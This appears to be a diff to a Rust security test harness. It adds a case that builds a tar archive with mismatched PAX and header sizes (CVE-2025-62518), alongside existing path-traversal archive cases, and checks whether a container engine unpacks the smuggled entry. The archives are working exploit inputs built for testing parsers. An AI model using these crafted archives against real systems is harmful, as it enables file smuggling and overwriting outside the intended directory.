@@ -14,7 +14,7 @@ pub(crate) fn attacks() -> Vec<Attack> {
     let attack = |name: &str, cve, make: fn(&Scene, Maker) -> Maker| {
         Attack::new((FAMILY, name), cve, NAIVE, move |scene| unpack(scene, make(scene, Maker::default())))
     };
-    vec![
+    let mut all = vec![
         attack("a file with .. in its name", "CVE-2014-9357", |scene, maker| {
             maker.file(format!("{}/x", up(scene)), b"x")
         }),
@@ -64,7 +64,46 @@ pub(crate) fn attacks() -> Vec<Attack> {
         attack("a PAX name beside the header's", "CVE-2018-20699", |scene, maker| {
             maker.pax(&[("path", format!("{}/x", up(scene)).as_bytes())]).file("plain", b"x")
         }),
-    ]
+    ];
+    all.push(Attack::new(
+        (FAMILY, "a file's contents are taken for entries, by a size that its two headers disagree about"),
+        "CVE-2025-62518",
+        "the header's size alone",
+        smuggle,
+    ));
+    all
+}
+
+/// An archive in a file whose PAX header has its size, where the header itself says 0.
+fn smuggle(scene: &Scene) -> Outcome {
+    let inner = Maker::default().file("smuggled", b"of nobody").0;
+    let size = inner.len().to_string();
+    let outer =
+        Maker::default()
+            .pax(&[("size", size.as_bytes())])
+            .edited(EntryType::Regular, "outer", "", &inner, |header| header.set_size(0));
+    if !scene.is_on() {
+        let mut names = Vec::new();
+        let mut rest = &outer.0[..];
+        while let Some((block, after)) = rest.split_at_checked(512) {
+            let header = tar::Header::from_byte_slice(block);
+            names.push(String::from_utf8_lossy(&header.path_bytes()).into_owned());
+            let size = header.size().expect("a size").next_multiple_of(512);
+            rest = &after[usize::try_from(size).expect("a small one")..];
+        }
+        return Outcome::of(names.iter().any(|name| name == "smuggled"), names.join(" "));
+    }
+    if !scene.target.is_engine() {
+        return Outcome::Not("it unpacks none".to_owned());
+    }
+    let (file, name) = (scene.path("layer.tar"), scene.name("smuggle"));
+    fs::write(&file, outer.end()).expect("write");
+    let said = scene.target.engine(&["import", file.to_str().expect("a UTF-8 path"), &name]);
+    scene.target.engine(&["create", "--name", &name, &name, "x"]);
+    let got = scene.target.engine(&["cp", &format!("{name}:/smuggled"), "-"]);
+    scene.target.engine(&["rm", "-f", &name]);
+    scene.target.engine(&["image", "rm", "-f", &name]);
+    Outcome::of(got.code == 0, said.err + &got.err)
 }
 
 /// The way to the canary from any root.
